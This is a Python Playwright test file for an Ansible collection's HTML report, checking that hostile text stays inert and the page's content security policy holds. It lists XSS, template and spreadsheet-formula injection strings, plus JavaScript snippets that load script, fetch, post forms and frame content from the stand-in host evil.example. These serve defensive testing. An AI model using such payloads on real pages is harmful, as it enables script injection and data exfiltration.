# Copyright (c) 2026, ucops contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""A report in which every text is hostile, in a real browser: it is text, and the policy holds if it ever is not."""

from __future__ import annotations

import json
import unicodedata

import pytest
from playwright.sync_api import expect

from ansible_collections.ucops.cucm.plugins.module_utils._report import formats, page, report

from ..unit.data import fleets
from .conftest import Open, Opened
from .walk import TEXTS, each_view

HOSTILE = fleets.hostile()
HTML = page.as_html(HOSTILE, fleets.FRAME)
INNOCENT = page.as_html(fleets.fleet(12), fleets.FRAME)
RESULTS = len(HOSTILE["controls"])

# Every element there is, as tag and names of attributes.
SHAPES = """() => [...new Set([...document.querySelectorAll("*")].map(node =>
  node.localName + " " + [...node.attributes].map(each => each.name).sort().join(" ")))].sort()"""


@pytest.mark.parametrize("width", [390, 1440])
def test_nothing_that_is_said_is_markup_or_runs(open_page: Open, width: int) -> None:
    innocent = open_page(INNOCENT, width=width, height=1200).page
    known = set()
    for _view in each_view(innocent, RESULTS):
        known |= set(innocent.evaluate(SHAPES))
    opened = open_page(HTML, width=width, height=1200)
    for view in each_view(opened.page, RESULTS):
        strange = {
            shape for shape in set(opened.page.evaluate(SHAPES)) - known if not _only_more_state(shape, known)
        }
        assert strange == set(), view
        assert opened.page.evaluate("'harmed' in window") is False
        assert opened.page.locator("script").count() == 2
        hidden = {
            char
            for text in opened.page.evaluate(TEXTS)
            for char in text
            if not char.isprintable() and char != "\n" and unicodedata.category(char) != "Zs"
        }
        assert hidden == set(), view
        # Paper is not as narrow as a telephone.
        if view != "paper" or width > 700:
            assert opened.page.evaluate("document.documentElement.scrollWidth") <= width, view
    opened.require_quiet()


def _only_more_state(shape: str, known: set[str]) -> bool:
    """Return whether an element is one that is known but for what says how it is at the moment."""
    tag, *names = shape.split(" ")
    state = {"hidden", "disabled", "id", "aria-activedescendant", "style", "title", "class"}
    return any(
        tag == each.split(" ")[0] and set(names) - state == set(each.split(" ")[1:]) - state for each in known
    )


def test_every_name_is_there_to_be_read(open_page: Open) -> None:
    opened = open_page(HTML, height=2000)
    labels = opened.page.locator("#grid .label .text").all_text_contents()
    assert sorted(labels) == sorted(formats.visible(each["name"]) for each in HOSTILE["clusters"])
    columns = opened.page.locator("#grid .column .text").all_text_contents()
    assert sorted(columns) == sorted(formats.visible(each["id"]) for each in HOSTILE["controls"])
    options = opened.page.locator("#cluster option").all_text_contents()
    assert options[1:] == [formats.visible(each["name"]) for each in HOSTILE["clusters"]]
    opened.require_quiet()


def test_the_verdicts_are_what_they_are(open_page: Open) -> None:
    opened = open_page(HTML, height=2000)
    by_name = {formats.visible(each["name"]): each for each in HOSTILE["clusters"]}
    order = [
        control["id"]
        for control in sorted(HOSTILE["controls"], key=lambda each: report.SEVERITIES.index(each["severity"]))
    ]
    rows = opened.page.locator("#grid .row").evaluate_all(
        "nodes => nodes.map(node => [node.querySelector('.text').textContent,"
        " [...node.querySelectorAll('.cell')].map(cell => cell.textContent)])"
    )
    assert len(rows) == len(by_name)
    for name, signs in rows:
        verdicts = {each["control"]: each["verdict"] for each in by_name[name]["results"]}
        assert signs == [formats.SYMBOLS[verdicts[control]] for control in order]
    opened.require_quiet()


@pytest.mark.parametrize(
    "words", ["<script>", "{{ 7", "U+202E", "=cmd|'", "\\ percent", "&lt;b&gt;", "'); alert(1); ('"]
)
def test_what_is_searched_for_is_text_too(open_page: Open, words: str) -> None:
    opened = open_page(HTML)
    opened.page.get_by_role("searchbox").fill(words)
    expect(opened.page.locator("#nothing")).to_be_visible(visible="alert" in words)
    opened.require_quiet()


def test_evidence_is_shown_as_it_is(open_page: Open) -> None:
    opened = open_page(HTML, height=2000)
    opened.page.locator("#view-list").click()
    opened.page.locator("#list .finding").first.click()
    seen = 0
    for _each in range(40):
        shown = opened.page.locator("pre").text_content()
        cluster = opened.page.locator("#detail .kicker").text_content()
        (judged,) = [each for each in HOSTILE["clusters"] if formats.visible(each["name"]) == cluster]
        evidence = [json.dumps(each["evidence"], ensure_ascii=False, indent=1) for each in judged["results"]]
        assert shown in [formats.visible(each, keep="\n") for each in evidence]
        seen += "<u>in</u>" in str(shown)
        opened.page.get_by_role("button", name="Next").click()
    assert seen, "what is large was among it"
    opened.require_quiet()


# -- the policy ------------------------------------------------------------------------------------------

# Each does what text would do if it ever became markup, and says whether it came through; and what may refuse it.
SCRIPT, TYPES = "script-src", "require-trusted-types-for"
LATER = "new Promise(done => setTimeout(() => done(location.protocol !== 'file:'), 100))"
ATTACKS = {
    "inline script": (
        """() => { const node = document.createElement("script"); node.append("window.harmed = 1");
        document.body.append(node); return "harmed" in window; }""",
        {SCRIPT, TYPES},
    ),
    "handler": (
        """() => { const node = document.createElement("b"); document.body.append(node);
        try { node.setAttribute("onclick", "window.harmed = 1"); } catch (error) { return false; }
        node.click(); return "harmed" in window; }""",
        {SCRIPT, TYPES},
    ),
    "script from elsewhere": (
        """() => new Promise(done => { const node = document.createElement("script"); node.onload = () => done(true);
        node.onerror = () => done(false); try { node.src = "https://evil.example/x.js"; } catch (error) { done(false); }
        document.body.append(node); })""",
        {SCRIPT, TYPES},
    ),
    "markup": (
        """() => { try { document.body.innerHTML = "<b></b>"; return true; } catch (error) { return false; } }""",
        {TYPES},
    ),
    "style": (
        """() => { const node = document.createElement("style"); node.append("body { display: none }");
        document.head.append(node); return getComputedStyle(document.body).display === "none"; }""",
        {"style-src"},
    ),
    "picture": (
        """() => new Promise(done => { const node = document.createElement("img"); node.onload = () => done(true);
        node.onerror = () => done(false); node.src = "https://evil.example/x.png"; document.body.append(node); })""",
        {"img-src"},
    ),
    "request": ("""() => fetch("https://evil.example/").then(() => true, () => false)""", {"connect-src"}),
    "form": (
        """() => { const node = document.createElement("form"); node.action = "https://evil.example/";
        document.body.append(node); node.submit(); return """
        + LATER
        + "; }",
        {"form-action"},
    ),
    "frame": (
        """() => { const node = document.createElement("iframe"); node.src = "https://evil.example/";
        document.body.append(node); return """
        + LATER
        + "; }",
        {"frame-src"},
    ),
}


@pytest.fixture
def opened(open_page: Open) -> Opened:
    """The page, quiet so far."""
    opened = open_page(HTML)
    opened.require_quiet()
    return opened


def test_the_policy_holds_against_what_gets_past_all_else(opened: Opened) -> None:
    for name, (attack, directives) in ATTACKS.items():
        before = len(opened.refused())
        assert opened.page.evaluate(attack) is False, name
        refused = {each.removesuffix("-elem").removesuffix("-attr") for each in opened.refused()[before:]}
        assert refused & directives, f"{name}: {refused}"
    assert opened.requests == []
